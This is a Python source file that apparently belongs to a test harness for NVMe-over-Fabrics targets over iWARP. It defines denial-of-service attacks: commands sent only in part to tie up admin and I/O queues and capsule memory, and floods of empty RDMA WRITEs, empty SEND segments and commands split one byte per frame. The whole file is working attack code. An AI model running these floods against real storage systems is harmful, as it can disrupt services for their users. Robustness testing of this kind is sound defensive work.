# SPDX-License-Identifier: BSD-3-Clause
"""Attacks with frames: commands that never end, and many frames that have no effect."""

import iwarp_peer as iw
import nvmf_peer as nv
from attack_lib import DRAIN, HOLD, addresses, associate, attack, mpa

QUEUES = 32  # of each controller that an attack makes
CHUNK = 1 << 16


def half(peer, capsule):
    """All of a command except its last bytes."""
    frame = iw.fpdu(iw.untagged_segment(iw.SEND, 0, peer.msn[0], 0, capsule), peer.crc)
    peer.send(frame[:60] if len(capsule) == 64 else frame[:-100])


def half_connect(qid):
    def script(peer):
        yield from mpa(peer, qid)
        half(peer, nv.fabrics_sqe(nv.CONNECT, 1, bytes(24)))
        yield HOLD
    return script


@attack('half commands on admin queues before Connect', sizes=(1500,), small=800)
def half_admin_connects(crowd, size):
    crowd.open(size, half_connect(0), sources=addresses(16), again=True)


@attack('half commands on I/O queues before Connect', sizes=(4500,), small=140, target={'capsule_memory': '1MiB'})
def half_io_connects(crowd, size):
    crowd.open(size, half_connect(1), sources=addresses(16), again=True)


def half_keep_alive(peer):
    nv.expect((yield from associate(peer)))
    half(peer, nv.sqe(nv.KEEP_ALIVE, 2))
    yield HOLD


@attack('half commands on admin queues', sizes=(1500,), small=800, target={'limits': {'controllers_per_host': 4096}})
def half_admin_commands(crowd, size):
    """With the host NQN of the other attackers, which may have that many controllers."""
    crowd.open(size, half_keep_alive, sources=addresses(16))


@attack('half commands with data on I/O queues', sizes=(4500,), small=140, target={'capsule_memory': '1MiB'})
def half_io_commands(crowd, size):
    """With the host NQN of the other attackers."""
    made = []

    def admin(peer):
        cqe = nv.expect((yield from associate(peer)))
        peer.capsule(nv.fabrics_sqe(nv.PROPERTY_SET, 2, nv.struct.pack('<B3xIQ', 0, nv.CC, 0x00460001)))
        yield 40  # its answer
        made.append(cqe.dw0 & 0xFFFF)
        yield DRAIN

    def io(peer):
        n = next(numbers)
        nv.expect((yield from associate(peer, 1 + n % QUEUES, cntlid=made[n // QUEUES])))
        half(peer, nv.sqe(nv.NVM_WRITE, 2, nsid=1, cdw12=15, sgl=nv.offset_sgl(0, 8192)) + bytes(8192))
        yield HOLD

    numbers = iter(range(size))
    crowd.open((size + QUEUES - 1) // QUEUES, admin, sources=addresses(16))
    crowd.open(size, io, sources=addresses(16))


# ---- many ----

def flood(frames):
    """Sends @frames(peer) again and again."""
    def script(peer):
        yield from mpa(peer)
        peer.arrived()
        while True:
            peer.send(frames(peer))
            del peer.inn[:]
            yield None
    return script


def empty_write(peer):
    return iw.fpdu(iw.tagged_segment(iw.WRITE, 0xDEADBE01, 0)) * (CHUNK // 20)


def empty_part(peer):
    return iw.fpdu(iw.untagged_segment(iw.SEND, 0, peer.msn[0], 0, last=False)) * (CHUNK // 24)


def one_in_bytes(cid):
    """A Keep Alive with one byte in each frame; the MSN is filled in later."""
    capsule = nv.sqe(nv.KEEP_ALIVE, cid)
    return bytearray(b''.join(iw.fpdu(iw.untagged_segment(iw.SEND, 0, 0, at, capsule[at:at + 1], last=at == 63))
                              for at in range(64)))


COMMANDS = [one_in_bytes(2 + n) for n in range(16)]
FRAME, MSN = len(COMMANDS[0]) // 64, 12  # bytes of a frame, and where in it the MSN is


def send_in_bytes(peer):
    for frames in COMMANDS:
        for at, byte in enumerate(peer.msn[0].to_bytes(4, 'big')):
            frames[MSN + at::FRAME] = bytes([byte]) * 64
        peer.send(frames)
        peer.msn[0] += 1


def in_bytes(peer):
    """As many commands as the queue has entries, half of them sent while the others' answers are awaited."""
    nv.expect((yield from associate(peer)))
    peer.arrived()
    send_in_bytes(peer)
    while True:
        send_in_bytes(peer)
        yield 40 * len(COMMANDS)


@attack('empty WRITEs before Connect', sizes=(1, 16), small=4, busy=True)
def empty_writes(crowd, size):
    """An attacker whose connection is closed reconnects at once, also here."""
    crowd.open(size, flood(empty_write), again=True)


@attack('empty parts of a SEND before Connect', sizes=(1, 16), small=4, busy=True)
def empty_parts(crowd, size):
    crowd.open(size, flood(empty_part), again=True)


@attack('commands of one byte in each frame', sizes=(1, 16), small=4, busy=True)
def commands_in_bytes(crowd, size):
    crowd.open(size, in_bytes)
